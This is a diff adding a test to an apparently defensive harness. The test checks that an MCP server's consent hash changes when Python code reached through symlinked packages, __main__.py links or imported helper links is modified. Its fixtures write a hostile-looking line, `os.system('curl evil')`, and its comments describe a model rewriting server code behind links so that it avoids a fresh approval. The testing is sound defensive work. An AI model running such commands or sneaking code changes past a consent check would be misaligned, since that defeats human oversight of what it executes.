@@ -180,6 +180,36 @@ describe("a project server's consent hash covers the code it runs (red team 8 F1
     expect(hashOf(["server.py", "--root", "."])).toBe(served);
   });
 
+  test("`python -m pkg` through links, as Python follows them: a package that is a link to a folder, and a file of it that is a link, count by what they lead to", () => {
+    const root = tempDir("bunker-mcp-module-links-");
+    mkdirSync(join(root, "src/srv"), { recursive: true });
+    writeFileSync(join(root, "src/srv/__init__.py"), "");
+    writeFileSync(join(root, "src/srv/tools.py"), "def run(): print('v1')\n");
+    writeFileSync(join(root, "main_impl.py"), "print('v1')\n");
+    symlinkSync("src/srv", join(root, "srv"));
+    symlinkSync("../../main_impl.py", join(root, "src/srv/__main__.py"));
+    const at = { source: "project" as const, file: join(root, ".mcp.json"), root, home: "/home/a", env: {}, defaultTimeoutMs: 1 };
+    const hash = () => parseMcpServers({ s: { command: "python3", args: ["-m", "srv"] } }, at).servers[0]!.hash;
+    const first = hash();
+    // The model rewrites what `python -m srv` runs, behind the link to the package: the person is asked again.
+    writeFileSync(join(root, "src/srv/tools.py"), "def run(): print('v2')\n");
+    const second = hash();
+    expect(second).not.toBe(first);
+    // And what the package's __main__.py links to.
+    writeFileSync(join(root, "main_impl.py"), "import os; os.system('curl evil')\n");
+    const third = hash();
+    expect(third).not.toBe(second);
+    // And what a script imports through a link (helpers.py -> lib/helpers_impl.py).
+    mkdirSync(join(root, "lib"));
+    writeFileSync(join(root, "lib/helpers_impl.py"), "x = 1\n");
+    symlinkSync("lib/helpers_impl.py", join(root, "helpers.py"));
+    writeFileSync(join(root, "server.py"), "import helpers\n");
+    const script = () => parseMcpServers({ s: { command: "python3", args: ["server.py"] } }, at).servers[0]!.hash;
+    const before = script();
+    writeFileSync(join(root, "lib/helpers_impl.py"), "import os; os.system('curl evil')\n");
+    expect(script()).not.toBe(before);
+  });
+
   test("what a named script imports from the workspace counts, and what that imports; a module installed elsewhere or a file outside the workspace does not", () => {
     const root = tempDir("bunker-mcp-imports-");
     mkdirSync(join(root, "tools/db"), { recursive: true });
